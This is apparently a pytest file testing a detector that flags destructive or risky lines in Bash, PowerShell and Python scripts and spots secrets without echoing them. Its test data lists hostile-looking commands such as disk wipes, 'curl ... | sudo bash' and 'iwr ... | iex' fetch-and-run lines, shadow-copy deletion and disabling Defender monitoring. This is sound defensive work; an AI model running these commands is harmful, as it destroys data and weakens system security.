"""What destroys is pointed out, and ordinary scripts are left in peace."""

from __future__ import annotations

import pytest

from core.llm.playbooks import load_playbooks
from core.scripts.dangers import look, mark_of
from core.scripts.languages import Language


@pytest.mark.parametrize(
    ("language", "line"),
    [
        (Language.BASH, "rm -rf /var/tmp/x"),
        (Language.BASH, "sudo rm --one-file-system -r ~/x"),
        (Language.BASH, "find . -name '*.log' -delete"),
        (Language.BASH, "mkfs.ext4 /dev/sdb1"),
        (Language.BASH, "dd if=/dev/zero of=/dev/sda"),
        (Language.BASH, "curl -s https://x.example/i.sh | sudo bash"),
        (Language.BASH, "eval \"$x\""),
        (Language.BASH, "shutdown -h now"),
        (Language.BASH, "psql -c 'DROP TABLE users'"),
        (Language.BASH, "chmod -R 777 /srv"),
        (Language.BASH, "ssh host {{command}}"),
        (Language.BASH, "bash -c \"ls {{folder}}\""),
        (Language.POWERSHELL, "Remove-Item C:\\x -Recurse -Force"),
        (Language.POWERSHELL, "del C:\\x /s /q"),
        (Language.POWERSHELL, "Format-Volume -DriveLetter D"),
        (Language.POWERSHELL, "Remove-ADUser jdoe"),
        (Language.POWERSHELL, "Set-MpPreference -DisableRealtimeMonitoring $true"),
        (Language.POWERSHELL, "vssadmin delete shadows /all"),
        (Language.POWERSHELL, "iwr https://x.example | iex"),
        (Language.POWERSHELL, "reg delete HKLM\\Software\\X"),
        (Language.POWERSHELL, "Restart-Computer -Force"),
        (Language.POWERSHELL, "Invoke-Expression \"Get-It {{name}}\""),
        (Language.PYTHON, "shutil.rmtree(folder)"),
        (Language.PYTHON, "subprocess.run(line, shell=True)"),
        (Language.PYTHON, "os.system({{command}})"),
    ],
)  # fmt: skip
def test_what_destroys_is_pointed_out_with_its_line(language: Language, line: str):
    findings = look(f"echo fine\n{line}", language)
    assert findings
    assert {one.line for one in findings} == {2}
    assert not any(one.is_secret for one in findings)


@pytest.mark.parametrize(
    ("language", "line"),
    [
        (Language.BASH, "# rm -rf /"),
        (Language.BASH, "ls -l; df -h; systemctl restart nginx; rm-old --help; echo format"),
        (Language.POWERSHELL, "Get-Item C:\\x | Format-Table; Restart-Service Spooler; Remove-PSSession $s"),
        (Language.PYTHON, "import shutil; print(shutil.disk_usage('/'))"),
    ],
)
def test_ordinary_lines_are_left_in_peace(language: Language, line: str):
    assert look(line, language) == ()


def test_most_of_the_playbooks_scripts_need_no_warning():
    scripts = [(one.fix.language, one.fix.script) for one in load_playbooks() if one.fix.script and one.fix.language]
    warned = [language for language, script in scripts if look(script, Language(language))]
    assert len(warned) < len(scripts) / 3


def test_secrets_are_found_in_the_script_and_beside_it_and_never_repeated():
    findings = look(
        "$token = 'ghp_0123456789abcdefghijklmnopqrstuvwxyz'", Language.POWERSHELL, ["the password is Winter2026!x"]
    )
    assert [one.is_secret for one in findings] == [True, True]
    assert [one.line for one in findings] == [1, 0]
    assert "ghp_" not in repr(findings)
    assert "Winter" not in repr(findings)


def test_what_is_acknowledged_is_exactly_what_was_shown():
    one, other = look("rm -rf /a", Language.BASH), look("rm -rf /b", Language.BASH)
    assert mark_of(one) != mark_of(other)
    assert mark_of(one) == mark_of(look("echo\nrm -rf /a", Language.BASH)), "a line more above changes nothing"
